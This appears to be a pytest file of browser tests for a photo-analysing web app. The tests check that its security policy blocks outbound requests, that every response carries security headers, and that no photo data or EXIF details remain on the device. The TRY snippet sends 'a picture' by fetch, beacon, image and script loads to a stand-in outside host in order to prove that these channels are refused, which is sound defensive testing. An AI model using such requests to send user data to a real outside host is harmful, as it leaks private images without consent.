"""Nothing leaves: neither the page nor its worker can reach another origin, whatever code runs in them."""

import pytest
from PIL import Image

from building import manifest
from tests.browser import PATIENCE_MS
from tests.drawn_hand import draw_hand

# A place that is not ours, and the ways to get something there.
ELSEWHERE = "https://example.org/taken"
TRY = """async (address) => {
    const refused = [];
    self.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
    await fetch(address, { method: "POST", body: "a picture" }).catch(() => {});
    if (typeof WorkerGlobalScope === "undefined") {
        const image = new Image();
        await new Promise((done) => { image.onerror = done; image.src = address; });
        navigator.sendBeacon(address, "a picture");
        const script = document.createElement("script");
        await new Promise((done) => { script.onerror = done; script.src = address; document.body.append(script); });
    }
    await new Promise((done) => setTimeout(done, 200));
    return refused.map((directive) => directive.replace("-elem", ""));
}"""


def worker_of(page):
    """The engine's: the first. Those that come after it are the threads of its networks."""
    return page.workers[0]


@pytest.mark.parametrize("visit_number", [1, 2])
def test_another_origin_is_refused_by_the_policy(visit, visit_number):
    visit.open()
    visit.wait_for_engine()
    page = visit.page
    if visit_number == 2:
        # Now everything comes from the service worker.
        visit.wait_for_offline_ready()
        page.reload()
        visit.wait_for_engine()
    of_page = page.evaluate(TRY, ELSEWHERE)
    assert set(of_page) == {"connect-src", "img-src", "script-src"}
    # Fetch and beacon.
    assert of_page.count("connect-src") >= 2
    assert set(worker_of(page).evaluate(TRY, ELSEWHERE)) == {"connect-src"}
    # The browser says so on the console, and the requests that it announces never went out.
    assert all(ELSEWHERE in error or "Content Security" in error for error in visit.console_errors)
    visit.console_errors.clear()
    visit.requests[:] = [url for url in visit.requests if url != ELSEWHERE]
    visit.sent[:] = [url for url in visit.sent if url != ELSEWHERE]


def test_every_answer_carries_the_policy(host, visit):
    answers = []

    def keep(response):
        answers.append(response)

    visit.page.on("response", keep)
    visit.open()
    visit.page.wait_for_selector("#start:not([hidden])", timeout=PATIENCE_MS)
    ours = [answer for answer in answers if answer.url.startswith(host.address)]
    assert ours
    for answer in ours:
        assert "frame-ancestors 'none'" in answer.headers["content-security-policy"], answer.url
        assert answer.headers["referrer-policy"] == "no-referrer"
        assert "camera=(self)" in answer.headers["permissions-policy"]


# Everything that a page can leave on a device.
LEFT = """async () => {
    const result = (asked) => new Promise((done) => { asked.onsuccess = () => done(asked.result); });
    let entries = 0;
    // PyScript makes two databases, and keeps nothing in them.
    for (const { name } of await indexedDB.databases()) {
        const database = await result(indexedDB.open(name));
        for (const store of database.objectStoreNames)
            entries += await result(database.transaction(store).objectStore(store).count());
        database.close();
    }
    const kept = [];
    for (const name of await caches.keys())
        for (const request of await (await caches.open(name)).keys()) kept.push(new URL(request.url).pathname.slice(1));
    return {
        local: Object.entries(localStorage),
        session: Object.keys(sessionStorage),
        entries,
        cookies: document.cookie,
        files: await navigator.storage.getDirectory().then(async (folder) => {
            const names = [];
            for await (const name of folder.keys()) names.push(name);
            return names;
        }),
        kept: kept.sort(),
    };
}"""


def test_a_photo_leaves_nothing_behind(host, visit, built_dist, tmp_path):
    exif = Image.Exif()
    exif[0x010F] = "Maker of the phone"
    exif.get_ifd(0x8825)[1] = "N"
    photo = tmp_path / "hand.jpg"
    draw_hand().picture.save(photo, exif=exif)
    page = visit.page
    visit.open()
    visit.wait_for_offline_ready()
    visit.upload(photo)
    visit.reading()
    address = page.get_attribute("#photo-image", "src")
    readable = "address => fetch(address).then(() => true, () => false)"
    assert page.evaluate(readable, address)
    page.click("[data-testid=close-result]")
    assert not page.evaluate(readable, address)
    # The browser says on the console that there is nothing there.
    visit.console_errors.clear()
    left = page.evaluate(LEFT)
    assert left["kept"] == sorted(manifest.read(built_dist).files)
    assert (left["entries"], left["cookies"], left["files"], left["session"]) == (0, "", [], [])
    assert "Maker" not in str(left["local"]) and {name for name, _ in left["local"]} <= {"hemolens-settings"}
    # Nor on the screen, in the elements that showed it.
    assert page.evaluate("[...document.querySelectorAll('canvas')].every((each) => !each.checkVisibility())")
    assert page.locator("#nails canvas").count() == 0
